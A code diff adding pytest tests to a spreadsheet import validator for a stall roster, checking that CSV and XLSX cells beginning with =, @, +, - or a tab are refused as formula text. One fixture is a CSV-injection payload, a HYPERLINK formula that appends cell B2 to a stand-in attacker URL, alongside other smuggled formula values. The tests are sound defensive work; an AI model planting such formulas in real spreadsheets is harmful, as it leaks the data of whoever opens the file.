@@ -330,3 +330,41 @@ def test_arbitrary_csv_text_never_crashes(cells, delimiter):
     table = read_table("a.csv", csv_bytes([HEADER, *cells], delimiter))
     for checked in check_rows(table.rows, state=STATE):
         assert checked.ok or checked.reasons()
+
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")'
+INJECTED = [
+    [EVIL, "081234560002", "A", "1", "2", "sayur"],
+    ["Ujang", "081234560003", "@SUM(A1)", "1", "3", "sayur"],
+    ["Asep", "081234560004", "A", "\t=1+1", "4", "sayur"],
+    ["Dedi", "081234560005", "A", "1", "-2+3", "sayur"],
+    ["Iis", "081234560006", "A", "1", "6", "+sayur"],
+    ["Neneng", "+62 812 3456 0007", "-", "-", "7", "sayur"],  # a "+62" phone and "-" for "no block": fine
+]
+
+
+def _text_cells_xlsx(rows):
+    """An .xlsx whose cells are text typed as strings, as Excel saves text that looks like a formula."""
+    workbook = openpyxl.Workbook()
+    sheet = workbook.worksheets[0]
+    for r, values in enumerate(rows, start=1):
+        for c, value in enumerate(values, start=1):
+            cell = sheet.cell(row=r, column=c, value=value)
+            cell.data_type = "s"
+    out = io.BytesIO()
+    workbook.save(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("make", [("a.csv", csv_bytes), ("a.xlsx", _text_cells_xlsx)], ids=["csv", "xlsx"])
+def test_text_that_would_be_a_formula_is_refused_with_a_row_message(make):
+    filename, writer = make
+    table = read_table(filename, writer([HEADER + ["Nama lapak"], *[[*r, ""] for r in INJECTED]]))
+    assert table.problem is None
+    checked = check_rows(table.rows, state=STATE)
+    assert codes(checked) == [["formula_text"]] * 5 + [[]]
+    assert checked[0].reasons() == [
+        '“=HYPERLINK("http://e” starts with =, so a spreadsheet would run it as a formula: remove the sign.'
+    ]
+    assert [r.reasons()[0].split(" starts with ")[1][0] for r in checked[:5]] == ["=", "@", "=", "-", "+"]
+    assert checked[5].ok
